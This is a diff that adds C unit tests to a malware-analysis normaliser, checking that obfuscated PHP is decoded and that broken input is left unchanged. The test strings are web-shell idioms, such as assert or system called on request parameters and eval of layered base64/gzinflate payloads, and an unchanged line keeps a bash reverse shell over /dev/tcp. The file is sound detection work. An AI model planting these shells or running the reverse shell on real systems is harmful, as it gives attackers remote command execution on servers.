@@ -8,6 +8,7 @@
 #include <cmocka.h>
 
 #include "analysis/normalise.h"
+#include "analysis/phpdecode.h"
 
 /* The normalised text of in, which must have needed at least one change. */
 static char *norm(const char *in)
@@ -84,6 +85,75 @@ static void test_wsh_and_shell(void **state)
                     "echo bash -i >& /dev/tcp/192.0.2.1/9 0>&1 | base64 -d | sh");
 }
 
+static void test_php(void **state)
+{
+        (void)state;
+        /* names built from pieces, chr(), XOR of strings; a variable holding a literal is that
+         * literal, also called ($a(...)) and as a variable variable ($$b) */
+        expect_norm("<?php $a = ('!'^'@').'s'.'s'.'e'.'r'.'t';\n$b='_'.'P'.'O'.'S'.'T';\n"
+                    "$c=$$b;\n$a($c['x']);",
+                    "<?php $a = 'assert';\n$b='_post';\n$c=$_post;\n'assert'($c['x']);");
+        expect_norm("<?php $f = 'a'.'ss'.chr('101').'rt'; @$f($_GET['x']);",
+                    "<?php $f = 'assert'; @'assert'($_get['x']);");
+        /* request values keep their index: the rules read $_GET['x'] */
+        expect_norm("<?php system($_GET['c'].'x'.'y');", "<?php system($_get['c'].'xy');");
+        /* eval of decoders over literals, layer upon layer, decoded in place */
+        expect_norm("<?php eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZKVorVtAYA')));",
+                    "<?php eval(system($_get[\"c\"]););");
+        expect_norm("<?php eval(gzinflate(base64_decode('Sy1LzNFIr8rMS8tJLEnVSEosTjUziU9JTc5PSdVQ"
+                    "9zYzKfbJzvMzDHP2SjFO9ssMi/IOyy8KK3GMdFTX1NS0BgA=')));",
+                    "<?php eval(eval(system($_get[\"c\"]);););");
+        expect_norm("<?php $f = base64_decode(str_rot13('p3ymqTIg')); $f($x);",
+                    "<?php $f = 'system'; 'system'($x);");
+        /* XOR of literals read with PHP's escapes (\x27 is a quote, \xe one digit) */
+        expect_norm("<?php $f='*UPG!WQ@{DnJL=m'^\"\\x49\\x27\\x35\\x26\\x55\\x32\\xe\\x26\\xe\\x2a"
+                    "\\xd\\x3e\\x25\\x52\\x3\";",
+                    "<?php $f='create_function';");
+        /* junk taken out by str_replace over literals, also around a decoder */
+        expect_norm("<?php $a=str_replace('mz','','crmzeatmzmze_mzfunmzctimzon'); $f=$a('',$d);",
+                    "<?php $a='create_function'; $f='create_function'('',$d);");
+        expect_norm("<?php $s = base64_decode(str_ireplace('X', '', 'c3lzdGVtxX'));",
+                    "<?php $s = 'system';");
+        /* reassigned or appended to: not a constant */
+        expect_norm("<?php $a = 'ass'; $a .= 'ert'; $a('x'.'y');",
+                    "<?php $a = 'ass'; $a .= 'ert'; $a('xy');");
+}
+
+/* Hostile or broken input: a call that does not decode is left as it is. */
+static void test_php_decode_hostile(void **state)
+{
+        static const char *const bad[] = {
+                "gzinflate(base64_decode('AAAA'))", /* not deflate */
+                "base64_decode('abc'",              /* unclosed */
+                "base64_decode($x)",                /* not a literal */
+                "base64_decode(\"a$b\")",           /* interpolated */
+                "hex2bin('abc')",                   /* odd length */
+                "xbase64_decode('YQ==')",           /* a longer name */
+                "gzuncompress(",
+                "",
+        };
+        uint8_t *out = NULL;
+        size_t len, end;
+        char deep[8 * 20 + 16] = "";
+
+        (void)state;
+        for (size_t k = 0; k < sizeof(bad) / sizeof(bad[0]); k++)
+                assert_int_equal(php_decode_call(bad[k], strlen(bad[k]), 0, &out, &len, &end), 0);
+        /* nesting beyond PHP_DECODE_MAX_DEPTH is not followed */
+        for (int k = 0; k < PHP_DECODE_MAX_DEPTH + 1; k++)
+                strcat(deep, "strrev(");
+        strcat(deep, "'ab'");
+        for (int k = 0; k < PHP_DECODE_MAX_DEPTH + 1; k++)
+                strcat(deep, ")");
+        assert_int_equal(php_decode_call(deep, strlen(deep), 0, &out, &len, &end), 0);
+        const char *ok = "str_rot13( @\"\\x63uc\" ) + 1";
+        assert_int_equal(php_decode_call(ok, strlen(ok), 0, &out, &len, &end), 1);
+        assert_int_equal(len, 3);
+        assert_memory_equal(out, "php", 3);
+        assert_int_equal(ok[end], ' ');
+        free(out);
+}
+
 static void test_unchanged(void **state)
 {
         char *out = NULL;
@@ -136,10 +206,9 @@ static void test_kinds(void **state)
 int main(void)
 {
         const struct CMUnitTest tests[] = {
-                cmocka_unit_test(test_powershell),
-                cmocka_unit_test(test_wsh_and_shell),
-                cmocka_unit_test(test_unchanged),
-                cmocka_unit_test(test_kinds),
+                cmocka_unit_test(test_powershell), cmocka_unit_test(test_wsh_and_shell),
+                cmocka_unit_test(test_php),        cmocka_unit_test(test_php_decode_hostile),
+                cmocka_unit_test(test_unchanged),  cmocka_unit_test(test_kinds),
         };
         return cmocka_run_group_tests(tests, NULL, NULL);
 }
